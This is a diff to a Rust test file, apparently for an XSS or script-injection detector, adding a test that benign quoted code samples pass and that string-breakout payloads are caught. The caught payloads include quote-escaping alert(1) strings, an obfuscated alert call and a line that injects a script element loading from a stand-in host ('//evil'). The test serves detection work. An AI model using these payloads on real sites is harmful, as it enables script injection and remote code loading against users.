@@ -665,3 +665,28 @@ fn utf7_and_full_width_markup_without_ascii_punctuation() {
         assert!(!hit(v), "flagged {v:?}");
     }
 }
+
+#[test]
+fn paired_quotes_in_code_samples_do_not_break_out() {
+    // a quote that closes a string the value itself opened leads back into a string, not
+    // into code: code samples whose quotes pair up
+    for v in [
+        "import csv\nfor row in csv.reader(['one,two,three']):\n    print(row)",
+        ">>> opt_flag = c_int.in_dll(pythonapi, \"Py_OptimizeFlag\")\n>>> print(opt_flag)",
+        ">>> d = deque([\"task1\", \"task2\"])\n>>> print(\"Handling\", d.popleft())",
+        "<pre> _.pick({name: 'moe', age: 50}, 'name', 'age'); </pre>",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+    // the first (odd) quote ends the page's string; a third one does again
+    for v in [
+        "';alert(1)//",
+        "\"-alert(1)-\"",
+        "x' + 'y';print(1)//",
+        "');top['al'+'ert'](1);//",
+        // a script made of statements: a later one reaches a sink
+        "x=document.createElement('script');x.src='//evil';document.body.appendChild(x)",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
